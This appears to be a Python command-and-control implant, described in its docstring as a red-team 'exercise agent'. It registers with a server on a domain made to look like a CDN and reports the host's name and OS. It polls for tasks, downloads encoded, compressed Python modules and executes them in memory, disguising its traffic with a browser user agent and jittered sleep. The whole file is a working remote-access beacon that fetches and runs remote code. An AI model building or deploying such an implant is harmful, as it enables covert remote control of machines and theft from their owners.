#!/usr/bin/env python3
"""Exercise agent: pulls tasking modules from the emulation team server.

Each check-in returns a list of module descriptors.  Module bodies are served
compressed and encoded; the agent unpacks them into an in-memory module and
calls its `run(context)` entry point, then reports the result.
"""
import argparse
import base64
import json
import logging
import platform
import random
import socket
import sys
import time
import types
import zlib
from urllib.parse import urljoin

import requests

log = logging.getLogger("agent")
TEAMSERVER = "https://cdn-static-assets.net/api/"
PROFILE = {
    "user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "sleep": 45,
    "jitter": 0.3,
}


class Agent:
    def __init__(self, base_url, profile):
        self.base = base_url
        self.profile = profile
        self.http = requests.Session()
        self.http.headers["User-Agent"] = profile["user_agent"]
        self.agent_id = None
        self.loaded = {}

    def url(self, path):
        return urljoin(self.base, path)

    def register(self):
        info = {
            "host": socket.gethostname(),
            "os": platform.platform(),
            "py": platform.python_version(),
        }
        resp = self.http.post(self.url("register"), json=info, timeout=20)
        resp.raise_for_status()
        self.agent_id = resp.json()["id"]
        log.info("registered as %s", self.agent_id)

    def fetch_module(self, name):
        resp = self.http.get(self.url(f"mod/{name}"), params={"a": self.agent_id}, timeout=30)
        resp.raise_for_status()
        blob = resp.json()["b"]
        return zlib.decompress(base64.b85decode(blob)).decode("utf-8")

    def load(self, name):
        if name in self.loaded:
            return self.loaded[name]
        source = self.fetch_module(name)
        module = types.ModuleType(f"task_{name}")
        code = compile(source, f"<{name}>", "exec")
        exec(code, module.__dict__)
        self.loaded[name] = module
        return module

    def checkin(self):
        resp = self.http.get(self.url("tasks"), params={"a": self.agent_id}, timeout=20)
        if resp.status_code == 204:
            return []
        resp.raise_for_status()
        return resp.json().get("tasks", [])

    def report(self, task_id, output, ok):
        self.http.post(self.url("results"), json={
            "a": self.agent_id, "t": task_id, "ok": ok, "out": output[:65536],
        }, timeout=20)

    def execute(self, task):
        try:
            module = self.load(task["module"])
            result = module.run(task.get("args", {}))
            self.report(task["id"], json.dumps(result, default=str), True)
        except Exception as exc:
            log.debug("task %s failed: %s", task.get("id"), exc)
            self.report(task.get("id"), repr(exc), False)

    def sleep(self):
        base = self.profile["sleep"]
        delta = base * self.profile["jitter"]
        time.sleep(max(1.0, base + random.uniform(-delta, delta)))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", default=TEAMSERVER)
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    agent = Agent(args.server, PROFILE)
    while agent.agent_id is None:
        try:
            agent.register()
        except requests.RequestException:
            agent.sleep()
    while True:
        try:
            for task in agent.checkin():
                agent.execute(task)
        except requests.RequestException as exc:
            log.debug("check-in failed: %s", exc)
        if args.once:
            break
        agent.sleep()
    return 0


if __name__ == "__main__":
    sys.exit(main())
